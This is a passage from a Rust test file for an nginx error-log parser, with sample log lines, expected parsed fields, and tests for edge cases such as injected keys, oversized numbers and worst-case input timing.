        &[("level", "warn"), ("pid", "6352"), ("tid", "8908"), ("cid", "6775"), ("naive", "1547114563"), ("message", "upstream server temporarily disabled while reading response header from upstream"), ("context", "reading response header from upstream"), ("client", "12.34.56.78"), ("server", "[redacted]"), ("request", "GET /redacted/path6?before=2019-01-14&after=2018-12-30 HTTP/1.1"), ("upstream", "http://[::1]:9000/redacted/path6?before=2019-01-14&after=2018-12-30"), ("host", "[redacted]"), ("referrer", "http://redacted/\"\u{d}"), ("peer", "[::1]:9000"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/10 10:02:20 [info] 6352#8908: *6803 client 1.23.45.67 closed keepalive connection\x0d",
        &[("level", "info"), ("pid", "6352"), ("tid", "8908"), ("cid", "6803"), ("naive", "1547114540"), ("message", "client 1.23.45.67 closed keepalive connection\u{d}"), ("connect_failure", "false"), ("ended", "true"), ("lines", "1"), ("ended_hint", "true")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/04 14:58:36 [notice] 6352#8908: *1210 \"^(.*)/index\\.html$\" does not match \"/redacted/path?query_item\", client: 12.34.56.78, server: [redacted], request: \"GET /redacted/path?query_item HTTP/1.1\", host: \"[redacted]\", referrer: \"http://redacted/\"\x0d",
        &[("level", "notice"), ("pid", "6352"), ("tid", "8908"), ("cid", "1210"), ("naive", "1546613916"), ("message", "\"^(.*)/index\\.html$\" does not match \"/redacted/path?query_item\""), ("client", "12.34.56.78"), ("server", "[redacted]"), ("request", "GET /redacted/path?query_item HTTP/1.1"), ("host", "[redacted]"), ("referrer", "http://redacted/\"\u{d}"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // https
    (
        b"2021/03/02 05:32:30 [error] 37#37: *271101 connect() failed (111: Connection refused) while connecting to upstream, client: 172.26.148.242, server: 0.0.0.0:9009, upstream: \"172.26.144.225:9009\", bytes from/to client:0/0, bytes from/to upstream:0/0",
        &[("level", "error"), ("pid", "37"), ("tid", "37"), ("cid", "271101"), ("naive", "1614663150"), ("message", "connect() failed (111: Connection refused) while connecting to upstream"), ("context", "connecting to upstream"), ("client", "172.26.148.242"), ("server", "0.0.0.0:9009"), ("upstream", "172.26.144.225:9009"), ("peer", "172.26.144.225:9009"), ("errno_text", "Connection refused"), ("kind", "connect_failed"), ("errno", "111"), ("subsystem", "stream"), ("bytes_from_client", "0"), ("bytes_to_client", "0"), ("bytes_from_upstream", "0"), ("bytes_to_upstream", "0"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "connect_failed")],
    ),
    // https
    (
        b"2023/03/08 16:02:40 [error] 31#31: *569 upstream timed out (110: Operation timed out) while connecting to upstream, client: 108.162.227.25, server: dev-aws.example.com, request: \"GET / HTTP/1.1\", upstream: \"http://192.168.215.1:80/\", host: \"dev-aws.example.com\"",
        &[("level", "error"), ("pid", "31"), ("tid", "31"), ("cid", "569"), ("naive", "1678291360"), ("message", "upstream timed out (110: Operation timed out) while connecting to upstream"), ("context", "connecting to upstream"), ("client", "108.162.227.25"), ("server", "dev-aws.example.com"), ("request", "GET / HTTP/1.1"), ("upstream", "http://192.168.215.1:80/"), ("host", "dev-aws.example.com"), ("peer", "192.168.215.1:80"), ("errno_text", "Operation timed out"), ("kind", "upstream_timed_out"), ("errno", "110"), ("subsystem", "http"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "upstream_timed_out")],
    ),
    // https
    (
        b"2017/05/23 21:52:25 [error] 317#317: *288785 connect() failed (113: No route to host) while connecting to upstream, client: 127.0.0.1, server: aaa.bbb.com, request: \"GET /favicon.ico HTTP/2.0\", upstream: \"http://10.2.3.30:3000/favicon.ico\", host: \"aaa.bbb.com\", referrer: \"https://aaa.bbb.com/\xe2\x80\x9c",
        &[("level", "error"), ("pid", "317"), ("tid", "317"), ("cid", "288785"), ("naive", "1495576345"), ("message", "connect() failed (113: No route to host) while connecting to upstream"), ("context", "connecting to upstream"), ("client", "127.0.0.1"), ("server", "aaa.bbb.com"), ("request", "GET /favicon.ico HTTP/2.0"), ("upstream", "http://10.2.3.30:3000/favicon.ico"), ("host", "aaa.bbb.com"), ("referrer", "https://aaa.bbb.com/“"), ("peer", "10.2.3.30:3000"), ("errno_text", "No route to host"), ("kind", "connect_failed"), ("errno", "113"), ("subsystem", "http"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "connect_failed")],
    ),
    // https
    (
        b"2019/10/25 08:24:21 [error] 65#65: *175576 stream [lua] tcp_udp_balancer.lua:104: could not parse backends data: Expected value but found invalid token at character 1, context: ngx.timer",
        &[("level", "error"), ("pid", "65"), ("tid", "65"), ("cid", "175576"), ("naive", "1571991861"), ("message", "stream [lua] tcp_udp_balancer.lua:104: could not parse backends data: Expected value but found invalid token at character 1, context: ngx.timer"), ("lua_context", "ngx.timer"), ("subsystem", "stream"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),

    ];

    /// The [[example]]s of parsers/nginx_error.toml with their `expect` ("null": absent).
    #[rustfmt::skip]
    const EXAMPLES: &[Case] = &[
    // ingress-nginx 0.25 stream proxy retry storm (the incident, DESIGN.md)
    (
        b"2019/09/17 03:46:20 [error] 2454#2454: *3584946 connect() failed (111: Connection refused) while connecting to upstream, client: 10.10.122.117, server: 0.0.0.0:55556, upstream: \"10.12.39.132:5555\", bytes from/to client:0/0, bytes from/to upstream:0/0",
        &[("level", "error"), ("pid", "2454"), ("tid", "2454"), ("cid", "3584946"), ("kind", "connect_failed"), ("errno", "111"), ("errno_text", "Connection refused"), ("context", "connecting to upstream"), ("client", "10.10.122.117"), ("server", "0.0.0.0:55556"), ("upstream", "10.12.39.132:5555"), ("peer", "10.12.39.132:5555"), ("subsystem", "stream"), ("bytes_from_client", "0"), ("bytes_to_client", "0"), ("bytes_from_upstream", "0"), ("bytes_to_upstream", "0"), ("message", "connect() failed (111: Connection refused) while connecting to upstream")],
    ),
    // real nginx 1.22.1, http proxy, async refusal (shared/real-nginx)
    (
        b"2026/11/25 17:33:43 [error] 18264#18264: *20137 connect() failed (111: Connection refused) while connecting to upstream, client: 127.0.0.66, server: storm.test, request: \"GET /storm1?cid=s1a HTTP/1.1\", upstream: \"http://127.0.0.1:17939/storm1?cid=s1a\", host: \"storm.test\"",
        &[("kind", "connect_failed"), ("cid", "20137"), ("client", "127.0.0.66"), ("server", "storm.test"), ("request", "GET /storm1?cid=s1a HTTP/1.1"), ("upstream", "http://127.0.0.1:17939/storm1?cid=s1a"), ("peer", "127.0.0.1:17939"), ("host", "storm.test"), ("subsystem", "http")],
    ),
    // real nginx 1.22.1, immediate failure on a stale unix socket: the upstream field has an extra ':'
    (
        b"2026/11/25 17:33:44 [error] 18265#18265: *49447 connect() to unix:/tmp/retrywatch-real-nginx.PJCwCC/stale-upstream.sock failed (111: Connection refused) while connecting to upstream, client: 127.0.0.69, server: storm.test, request: \"GET /unixstorm?cid=su HTTP/1.1\", upstream: \"http://unix:/tmp/retrywatch-real-nginx.PJCwCC/stale-upstream.sock:/unixstorm?cid=su\", host: \"storm.test\"",
        &[("kind", "connect_to_failed"), ("errno", "111"), ("peer", "unix:/tmp/retrywatch-real-nginx.PJCwCC/stale-upstream.sock"), ("upstream", "http://unix:/tmp/retrywatch-real-nginx.PJCwCC/stale-upstream.sock:/unixstorm?cid=su"), ("subsystem", "http")],
    ),
    // timeout while connecting (a SYN-dropping backend)
    (
        b"2023/03/08 16:02:40 [error] 31#31: *569 upstream timed out (110: Operation timed out) while connecting to upstream, client: 108.162.227.25, server: dev-aws.example.com, request: \"GET / HTTP/1.1\", upstream: \"http://192.168.215.1:80/\", host: \"dev-aws.example.com\"",
        &[("kind", "upstream_timed_out"), ("errno", "110"), ("errno_text", "Operation timed out"), ("context", "connecting to upstream"), ("peer", "192.168.215.1:80")],
    ),
    // timeout while reading the response header: not a connect failure
    (
        b"2026/11/25 17:33:50 [error] 18553#18553: *300 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 127.0.0.1, server: normal.test, request: \"GET /slow HTTP/1.1\", upstream: \"http://127.0.0.1:17945/slow\", host: \"normal.test\"",
        &[("kind", "upstream_timed_out"), ("context", "reading response header from upstream"), ("connect_failure", "false")],
    ),
    // stream group exhausted: the upstream field is the group name
    (
        b"2026/11/25 17:33:41 [error] 17998#17998: *1005 no live upstreams while connecting to upstream, client: 127.0.0.9, server: 127.0.0.1:17021, upstream: \"dead3z\", bytes from/to client:0/0, bytes from/to upstream:0/0",
        &[("kind", "no_live_upstreams"), ("peer", "dead3z"), ("subsystem", "stream"), ("connect_failure", "true")],
    ),
    // a message with a comma, and the end of a stuck HTTP request
    (
        b"2026/11/25 17:33:43 [info] 18264#18264: *20302 epoll_wait() reported that client prematurely closed connection, so upstream connection is closed too while connecting to upstream, client: 127.0.0.67, server: storm.test, request: \"GET /storm1?cid=s1b HTTP/1.1\", upstream: \"http://127.0.0.1:17939/storm1?cid=s1b\", host: \"storm.test\"",
        &[("level", "info"), ("ended", "true"), ("context", "connecting to upstream"), ("message", "epoll_wait() reported that client prematurely closed connection, so upstream connection is closed too while connecting to upstream")],
    ),
    // a notice without a connection id
    (
        b"2026/11/25 17:33:40 [notice] 17996#17996: start worker processes",
        &[("level", "notice"), ("pid", "17996"), ("cid", "null"), ("message", "start worker processes")],
    ),
    // Windows: pid#tid differ, winsock errno
    (
        b"2023/05/02 10:00:01 [error] 6352#8908: *6776 upstream timed out (10060: A connection attempt failed because the connected party did not properly respond after a period of time, or established connection failed because connected host has failed to respond) while connecting to upstream, client: ::1, server: localhost, request: \"GET / HTTP/1.1\", upstream: \"http://[::1]:8080/\", host: \"localhost\"",
        &[("pid", "6352"), ("tid", "8908"), ("errno", "10060"), ("client", "::1"), ("peer", "[::1]:8080"), ("kind", "upstream_timed_out")],
    ),
    // empty server name
    (
        b"2026/11/25 17:40:00 [error] 31#31: *7 connect() failed (111: Connection refused) while connecting to upstream, client: 2001:db8::80da:af6b:8b2c, server: , request: \"GET / HTTP/1.1\", upstream: \"http://10.0.0.1:80/\", host: \"a\"",
        &[("server", ""), ("client", "2001:db8::80da:af6b:8b2c")],
    ),
    // a fake client injected in the message; the real key is the last one
    (
        b"2023/12/09 21:35:20 [error] 9#9: *3 user \"x, client: 127.0.0.1, server: y\" was not found in \"/etc/htpasswd\", client: 192.0.2.3, server: host.example.com, request: \"GET / HTTP/2.0\", host: \"host.example.com\"",
        &[("client", "192.0.2.3"), ("server", "host.example.com"), ("message", "user \"x, client: 127.0.0.1, server: y\" was not found in \"/etc/htpasswd\"")],
    ),
    // a quote inside a quoted value
    (
        b"2026/11/25 17:40:01 [error] 31#31: *8 open() \"/x\" failed (2: No such file or directory), client: 10.0.0.2, server: gbens.net, request: \"GET /x HTTP/1.1\", host: \"gbens\"n.net\"",
        &[("host", "gbens\"n.net"), ("errno", "2")],
    ),
    // '*' elsewhere in the line (a wildcard server name)
    (
        b"2026/11/25 17:40:02 [error] 31#31: *9 connect() failed (111: Connection refused) while connecting to upstream, client: 10.0.0.3, server: *.example.com, request: \"GET /a*b HTTP/1.1\", upstream: \"http://10.0.0.4:80/a*b\", host: \"x.example.com\"",
        &[("cid", "9"), ("server", "*.example.com"), ("request", "GET /a*b HTTP/1.1")],
    ),
    // stream [lua] line of ingress-nginx with a timer context and no client
    (
        b"2019/10/25 08:24:21 [error] 65#65: *175576 stream [lua] tcp_udp_balancer.lua:104: could not parse backends data: Expected value but found invalid token at character 1, context: ngx.timer",
        &[("cid", "175576"), ("subsystem", "stream"), ("lua_context", "ngx.timer"), ("kind", "null")],
    ),
    // mail proxy: unquoted upstream, starttls
    (
        b"2026/11/25 17:40:03 [error] 31#31: *10 upstream sent invalid response: \"421 too busy\" while reading response from upstream, client: 203.0.113.9 using starttls, server: 0.0.0.0:25, login: \"bob\", upstream: 172.69.69.9:10025",
        &[("client", "203.0.113.9"), ("server", "0.0.0.0:25"), ("login", "bob"), ("upstream", "172.69.69.9:10025"), ("subsystem", "mail"), ("kind", "other")],
    ),
    // stream session end (info): no client key, byte counters in the message
    (
        b"2026/11/25 17:33:41 [info] 17997#17997: *1044 client disconnected, bytes from/to client:9/9, bytes from/to upstream:9/9",
        &[("ended", "true"), ("cid", "1044")],
    ),
    ];

    #[test]
    fn examples_of_the_format() {
        assert_eq!(EXAMPLES.len(), 16);
        for (text, expect) in EXAMPLES {
            let ev = parse_event(text).unwrap_or_else(|r| panic!("{r}: {}", decode_escaped(text)));
            assert_eq!(ev.lines, 1);
            let got = fields(text, &ev);
            for (name, value) in *expect {
                let found = got.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str());
                let want = if *value == "null" { None } else { Some(*value) };
                assert_eq!(found, want, "{name} of {}", decode_escaped(text));
            }
            assert_head_agrees(text);
        }
    }

    #[test]
    fn rule_cases() {
        for (text, expect) in CASES {
            check(text, expect);
        }
    }

    #[test]
    fn peer_fixture_lines() {
        assert!(FIXTURES.len() >= 40);
        for (text, expect) in FIXTURES {
            check(text, expect);
            assert_head_agrees(text);
        }
        assert!(FIXTURES.iter().any(|(t, _)| t.contains(&b'\n')));
        assert!(FIXTURES.iter().any(|(_, e)| e[0].0 == "reason"));
    }

    #[test]
    fn subsystem_round_trips() {
        for i in 0..3 {
            assert_eq!(Subsystem::from_index(i).unwrap().index(), i);
        }
        assert_eq!(Subsystem::from_index(3), None);
        assert_eq!(
            [Subsystem::Http, Subsystem::Stream, Subsystem::Mail].map(Subsystem::as_str),
            ["http", "stream", "mail"]
        );
    }

    #[test]
    fn rejections_match_the_head() {
        for text in [
            &b""[..],
            b"  ",
            b"hello",
            b"2024/13/45 00:00:00 [error] 1#1: *1 x",
            b"2024/01/01 00:00:00 [loud] 1#1: *1 x",
            b"2024/01/01 00:00:00 [error] 1#1 x",
            b"2024/01/01 00:00:00 [error] 99999999999999999999#1: x",
        ] {
            let reason = parse_head(text).unwrap_err();
            assert_eq!(parse_event(text).unwrap_err(), reason);
        }
    }

    #[test]
    fn head_and_event_may_disagree_as_in_python() {
        // head() matches the kind on the whole text, parse() on the message before the
        // tail: here only the tail holds the ')' that closes "(111: x".
        let text = b"2024/01/01 00:00:00 [error] 1#1: *1 connect() failed (111: x, client: c, server: s, host: \"h)\"";
        let ev = parse_event(text).unwrap();
        assert_eq!(failure_kind(text, &ev.head), Some(Kind::ConnectFailed));
        assert_eq!((ev.kind, ev.connect_failure), (None, false));
    }

    #[test]
    fn numbers_too_large_for_u64() {
        // An errno: the kind's pattern does not match (Python: errno 2**64), then the
        // errno search finds the same match and drops it too; the context names an upstream,
        // so the kind is `other`.
        let text = b"2024/01/01 00:00:00 [error] 1#1: *1 connect() failed (18446744073709551616: x) while connecting to upstream";
        let ev = parse_event(text).unwrap();
        assert_eq!(
            (ev.kind, ev.errno, ev.errno_text, ev.connect_failure),
            (Some(Kind::Other), None, None, false)
        );
        assert_eq!(failure_kind(text, &ev.head), None);
        let text = b"2024/01/01 00:00:00 [error] 1#1: *1 open() failed (18446744073709551615: x)";
        assert_eq!(parse_event(text).unwrap().errno, Some(u64::MAX));
        let text = b"2024/01/01 00:00:00 [error] 1#1: *1 x (18446744073709551616: y) (2: z)";
        assert_eq!(parse_event(text).unwrap().errno, None);
        // A byte counter: the tail at that key does not match (Python: the int), so the
        // key stays in the message.
        let text = b"2024/01/01 00:00:00 [info] 1#1: *1 x, client: c, server: s, bytes from/to client:1/18446744073709551616, bytes from/to upstream:0/0";
        let ev = parse_event(text).unwrap();
        assert_eq!((ev.client, ev.bytes_from_client), (None, None));
        assert!(ev.message.starts_with(b"x, client: c, server: s, bytes"));
        let text = b"2024/01/01 00:00:00 [info] 1#1: *1 x, client: c, server: s, bytes from/to client:18446744073709551615/0, bytes from/to upstream:0/0";
        assert_eq!(parse_event(text).unwrap().bytes_from_client, Some(u64::MAX));
        // A digit the regex module's \d knows but Python 3.11's int() does not (Kawi
        // U+11F50): Python raises ValueError; here the tail does not match.
        let text = "2024/01/01 00:00:00 [info] 1#1: *1 x, client: c, server: s, bytes from/to client:1/2, bytes from/to upstream:3/\u{11f50}";
        let ev = parse_event(text.as_bytes()).unwrap();
        assert_eq!((ev.client, ev.bytes_to_upstream), (None, None));
        // The head's own numbers: bad_prefix.
        assert_eq!(
            parse_event(b"2024/01/01 00:00:00 [info] 1#1: *18446744073709551616 x"),
            Err("bad_prefix")
        );
    }

    #[test]
    fn unicode_digits_of_the_full_grammar() {
        assert_eq!(
            regex_digits("12\u{664}x".as_bytes(), 0),
            Some((4, Some(124)))
        );
        assert_eq!(
            regex_digits("\u{1d7ce}\u{1d7d9}".as_bytes(), 0),
            Some((8, Some(1)))
        );
        assert_eq!(regex_digits("\u{11f50}".as_bytes(), 0), Some((4, None)));
        assert_eq!(regex_digits("\u{b2}".as_bytes(), 0), None); // superscript two: no \d
        assert_eq!(regex_digits(b"\xd9", 0), None);
        assert_eq!(regex_digits(b"", 0), None);
        // The fast grammar's \d is ASCII (re.ASCII): "1\u{664}" is left to the full one.
        let text = "2024/01/01 00:00:00 [info] 1#1: *1 x, client: c, server: s, bytes from/to client:1/2, bytes from/to upstream:3/1\u{664}";
        assert!(fast_tail(text.as_bytes(), 36).is_none());
        assert_eq!(
            parse_event(text.as_bytes()).unwrap().bytes_to_upstream,
            Some(14)
        );
    }

    #[test]
    fn continuation_lines_are_counted() {
        let text = b"2024/01/01 00:00:00 [error] 1#1: *1 a\nb\n\nc";
        let ev = parse_event(text).unwrap();
        assert_eq!((ev.lines, ev.message), (4, &b"a\nb\n\nc"[..]));
        // The head ends at a space or the end of the text, not at a newline.
        assert_eq!(
            parse_event(b"2024/01/01 00:00:00 [error] 1#1:\n"),
            Err("bad_prefix")
        );
        assert_eq!(
            parse_event(b"2024/01/01 00:00:00 [error] 1#1: \n")
                .unwrap()
                .lines,
            2
        );
    }

    /// `failure_peer` against `parse_event`'s peer: the examples, the rule cases and the
    /// peer fixtures, and each with pieces of tails and peers spliced in at every place
    /// (a second ", client: ", quotes, `connect() to X failed`, a bare upstream).
    #[test]
    fn the_word_masks_mark_exactly_their_bytes() {
        // every byte value at every place of a word, between every value of a neighbour
        // (a carry or borrow from one byte into the next would show there)
        let stop = |b: u8| is_space(b) || b == b',' || b == b'"';
        for place in 0..8 {
            for b in 0..=255u8 {
                for n in 0..=255u8 {
                    let mut bytes = [n; 8];
                    bytes[place] = b;
                    let w = u64::from_le_bytes(bytes);
                    for (i, &x) in bytes.iter().enumerate() {
                        let bit = 0x80u64 << (8 * i);
                        assert_eq!(bytes_equal(w, b'"') & bit != 0, x == b'"', "{bytes:?}");
                        assert_eq!(token_stops(w) & bit != 0, stop(x), "{bytes:?}");
                    }
                }
            }
        }
        let text = b"ab,cd\"efghijklmnopqrs,tuvwx\"yz";
        for from in 0..text.len() {
            let want = text[from..]
                .iter()
                .position(|&b| b == b'"')
                .map(|q| from + q);
            let got = quote_from(text, from);
            assert_eq!(got.map(|g| g.0), want, "{from}");
            if let (Some((q, comma)), Some(_)) = (got, want) {
                assert_eq!(comma, text[from..q].contains(&b','), "{from}");
            }
            let end = from + text[from..].iter().take_while(|&&b| !stop(b)).count();
            assert_eq!(token_end(text, from), end, "{from}");
        }
    }

    #[test]
    fn failure_peer_is_the_events_peer() {
        const PIECES: &[&[u8]] = &[
            b", client: 10.0.0.9, server: z",
            b", client: a, server: b, upstream: \"http://9.9.9.9:9/x\"",
            b"\"",
            b", upstream: \"http://8.8.8.8:8/\", host: \"h\"",
            b", upstream: bare:25",
            b"connect() to 7.7.7.7:7 failed (111: Connection refused)",
            b", host: \"",
            b", request: \"GET / HTTP/1.1\"",
            b" failed (",
            b"a,b",
            b"\", host: \"x,y\"",
        ];
        let mut lines: Vec<Vec<u8>> = Vec::new();
        for text in EXAMPLES
            .iter()
            .map(|(t, _)| *t)
            .chain(CASES.iter().map(|(t, _)| *t))
            .chain(FIXTURES.iter().map(|(t, _)| *t))
        {
            lines.push(text.to_vec());
            for piece in PIECES {
                for at in (0..=text.len()).step_by(7) {
                    let mut t = text[..at].to_vec();
                    t.extend_from_slice(piece);
                    t.extend_from_slice(&text[at..]);
                    lines.push(t);
                }
                let mut t = text.to_vec();
                t.extend_from_slice(piece);
                lines.push(t);
            }
        }
        let (mut checked, mut with_peer) = (0, 0);
        for t in &lines {
            let Ok(head) = parse_head(t) else { continue };
            let want = parse_event(t).unwrap().peer;
            assert_eq!(
                failure_peer(t, head.msg_start),
                want,
                "{}",
                decode_escaped(t)
            );
            checked += 1;
            with_peer += usize::from(want.is_some());
        }
        assert!(
            checked > 20_000 && with_peer > 5_000,
            "{checked} {with_peer}"
        );
    }

    /// `failure_peer` against `parse_event`'s peer on 300,000 messages followed by random
    /// runs of tail pieces (keys, quotes, values, several ", client: "): the tails a
    /// fast left-to-right reading could take differently from `find_tail`.
    #[test]
    fn failure_peer_agrees_on_random_tails() {
        const PIECES: &[&[u8]] = &[
            b", client: a",
            b", client: c",
            b", server: b",
            b", server: d",
            b", request: ",
            b", upstream: ",
            b", host: ",
            b", referrer: ",
            b", subrequest: ",
            b", login: ",
            b"\"",
            b"http://p1/",
            b"http://p2:9/",
            b"Z",
            b", bytes from/to client:1/2, bytes from/to upstream:3/4",
            b" using starttls",
            b"bare:25",
            b"connect() to q:1 failed (111: x)",
        ];
        let mut state: u64 = 0x1234_5678;
        let mut next = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let mut with_peer = 0;
        for i in 0..300_000u64 {
            let mut t = if i % 2 == 0 {
                b"2024/01/01 00:00:00 [error] 1#1: *1 connect() failed (111: x) while connecting to upstream".to_vec()
            } else {
                b"2024/01/01 00:00:00 [error] 1#1: *1 connect() to ".to_vec()
            };
            for _ in 0..3 + next() % 14 {
                t.extend_from_slice(PIECES[(next() % PIECES.len() as u64) as usize]);
            }
            let head = parse_head(&t).unwrap();
            let want = parse_event(&t).unwrap().peer;
            assert_eq!(
                failure_peer(&t, head.msg_start),
                want,
                "{}",
                decode_escaped(&t)
            );
            with_peer += usize::from(want.is_some());
        }
        assert!(with_peer > 30_000, "{with_peer}");
    }

    #[test]
    fn adversarial_tails_take_linear_time() {
        // Every quote could close a value (each is followed by an allowed key) but the
        // tail never ends: a backtracking matcher tries every combination.
        let mut text =
            b"2024/01/01 00:00:00 [error] 1#1: *1 x, client: a, server: b, login: \"".to_vec();
        for _ in 0..3000 {
            text.extend_from_slice(
                b"\", request: \"\", subrequest: \"\", upstream: \"\", host: \"\", referrer:x",
            );
        }
        assert_eq!(parse_event(&text).unwrap().client, None);
        // Many fake tails, none complete.
        let mut text = b"2024/01/01 00:00:00 [error] 1#1: *1 x".to_vec();
        for _ in 0..3000 {
            text.extend_from_slice(b", client: a, server: b, request: \"\", host: \"\"");
        }
        text.push(b'x');
        assert_eq!(parse_event(&text).unwrap().client, None);
        // Many " failed (" after "connect() to", none closed.
        let mut text = b"2024/01/01 00:00:00 [error] 1#1: *1 connect() to ".to_vec();
        for _ in 0..5000 {
            text.extend_from_slice(b" failed (1: x ");
        }
        text.extend_from_slice(b"\n)");
        let head = parse_head(&text).unwrap();
        assert_eq!(failure_kind(&text, &head), None);
        assert_eq!(parse_event(&text).unwrap().errno, None);
    }
}
